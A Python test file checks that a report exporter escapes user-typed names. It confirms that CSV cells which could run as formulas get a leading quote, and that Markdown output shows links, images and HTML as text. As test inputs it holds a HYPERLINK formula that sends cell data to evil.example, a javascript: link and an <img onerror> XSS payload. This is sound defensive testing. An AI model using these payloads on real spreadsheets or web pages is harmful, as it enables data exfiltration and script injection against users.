"""Exports treat what people typed as hostile: no formulas in CSV, nothing Markdown would interpret."""

import csv
import io

from domain.ranking import Ranked
from domain.report import ExportFormat, csv_cell, render
from domain.scoring import prioritize
from tests.builders import project as a_project

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B3,"Open")'


def exported(name: str, fmt: ExportFormat) -> str:
    project = a_project()
    project = project.model_copy(update={"problem": project.problem.model_copy(update={"name": name})})
    return render([Ranked(1, project, prioritize(project.scope))], fmt)


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
    [row] = list(csv.DictReader(io.StringIO(exported(HYPERLINK, ExportFormat.CSV))))
    assert row["name"] == "'" + HYPERLINK
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell(-3.5) == -3.5 and csv_cell("Churn -> retention") == "Churn -> retention"


def test_markdown_cells_show_links_images_html_and_pipes_as_text():
    table = exported(
        "![x](https://evil.example/p.png) [go](javascript:alert(1)) <img src=x onerror=alert(1)> a|b",
        ExportFormat.MARKDOWN,
    )
    cell = table.splitlines()[2].split(" | ")[3]
    assert "![x](" not in cell and "[go](" not in cell and "<img" not in cell
    assert "\\!\\[x\\]\\(https://evil\\.example/p\\.png\\)" in cell and "&lt;img" in cell and "a\\|b" in cell
    assert len(table.splitlines()[2].split(" | ")) == len(table.splitlines()[0].split(" | ")), "no stray column"
